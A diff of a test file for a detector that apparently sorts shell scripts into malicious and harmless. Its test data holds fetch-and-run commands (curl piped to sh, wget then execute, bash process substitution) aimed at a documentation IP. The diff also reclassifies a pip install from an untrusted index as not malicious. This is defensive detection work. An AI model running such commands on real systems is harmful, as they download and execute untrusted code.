@@ -44,7 +44,6 @@ describe('an address that leads to nobody in particular', () => {
     ['piped', 'curl -s http://203.0.113.9/x | sh'],
     ['through a file', 'wget -qO /tmp/k http://203.0.113.9/k\nchmod +x /tmp/k\n/tmp/k'],
     ['by a name', 'U=http://203.0.113.9\nbash <(curl -s $U/x)'],
-    ['of a package', 'pip install git+http://203.0.113.9/x.git'],
   ])('is an attack where what lies there is run: %s', (_, text) => {
     const found = judgeScript(text, { buildsImage: true, hashComments: true, shell: 'posix' });
     expect(found?.rule.says).toBe('malicious');
@@ -53,6 +52,7 @@ describe('an address that leads to nobody in particular', () => {
   it.each([
     ['with a name', 'curl -s https://example.org/x | sh'],
     ['near', 'curl -s http://10.0.0.3/x | sh'],
+    ['of packages', 'pip install -i http://203.0.113.9/simple x'],
     ['of data', 'wget http://203.0.113.9/model.bin'],
   ])('is not where it is another, or nothing is run: %s', (_, text) => {
     const found = judgeScript(text, { buildsImage: true, hashComments: true, shell: 'posix' });
